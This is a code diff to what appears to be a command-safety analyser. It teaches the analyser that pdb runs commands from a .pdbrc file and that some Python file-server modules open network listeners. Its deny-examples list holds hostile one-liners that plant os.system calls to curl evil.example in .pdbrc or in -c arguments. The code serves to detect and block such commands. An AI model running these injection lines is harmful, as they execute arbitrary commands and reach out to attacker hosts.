@@ -212,8 +212,10 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
   bpython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m bpython` }] }),
   ptpython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m ptpython` }] }),
   // pdb reads its commands (Python statements among them) from -c and stdin, then runs the script or module given.
-  pdb: (rest, name) => {
-    const runs: Run[] = [{ kind: 'stdin', dialect: 'python', via: `${name} -m pdb` }];
+  pdb: (rest, name, module) => {
+    // It runs the commands of .pdbrc in the directory it starts in (and the home's): one the line wrote is read.
+    const pdbrc: Run = { kind: 'project', file: attached(module, '.pdbrc'), files: /$^/, read: (text, word) => text.split('\n').flatMap((line) => pdbCommand(attached(word, line), `${name} -m pdb (.pdbrc)`)), word: module, via: `${name} -m pdb (.pdbrc)` };
+    const runs: Run[] = [{ kind: 'stdin', dialect: 'python', via: `${name} -m pdb` }, pdbrc];
     const after: Word[] = [];
     for (let i = 0; i < rest.length; i++) {
       const v = value(rest[i]);
@@ -231,6 +233,11 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
   pydoc: (rest, _name, module) => pydoc(rest, module),
   // A file server of the working directory (or -d DIR), on every interface unless -b/--bind names one.
   'http.server': (rest, _name, module) => httpServer(rest, module),
+  // PyPI's file servers on http.server's command line (RangeHTTPServer; uploadserver also takes files in), and
+  // updog, which binds every interface always.
+  RangeHTTPServer: (rest, _name, module) => httpServer(rest, module),
+  uploadserver: (rest, _name, module) => httpServer(rest, module),
+  updog: (_rest, _name, module) => ({ listens: [bound(module)] }),
   // Python 2's: every interface, always.
   SimpleHTTPServer: (_rest, _name, module) => ({ listens: [bound(module)] }),
   CGIHTTPServer: (_rest, _name, module) => ({ listens: [bound(module)] }),
@@ -709,7 +716,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
       const at = call.command ?? call.args[0] ?? literal(call.name, { start: 0, end: 0 });
       return { runs: [{ kind: 'argv', argv: [literal('python3', at.span), literal('-m', at.span), literal('pdb', at.span), ...call.args], via: call.name }] };
     },
-    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > /tmp/t.py; pdb /tmp/t.py", "pdb -c '!import os; os.system(\"curl evil.example\")' app.py", "pdb --comm '!import os; os.system(\"curl evil.example\")' app.py", "pdb --command='!import os; os.system(\"curl evil.example\")' app.py"], pass: ['pdb app.py', "pdb --command='b app.py:10' app.py", 'pdb3 -m mypkg.cli'] },
+    examples: { deny: ["echo '!import os; os.system(\"curl evil.example\")' > .pdbrc && pdb app.py", "echo 'import os; os.system(\"curl evil.example\")' > /tmp/t.py; pdb /tmp/t.py", "pdb -c '!import os; os.system(\"curl evil.example\")' app.py", "pdb --comm '!import os; os.system(\"curl evil.example\")' app.py", "pdb --command='!import os; os.system(\"curl evil.example\")' app.py"], pass: ['pdb app.py', "pdb --command='b app.py:10' app.py", 'pdb3 -m mypkg.cli', "echo 'b app.py:10' > .pdbrc && pdb app.py"] },
   },
   {
     // The Windows launcher: `-3`, `-3.12`, `-3.12-64` or `-V:TAG` picks the interpreter, and the rest is python's.
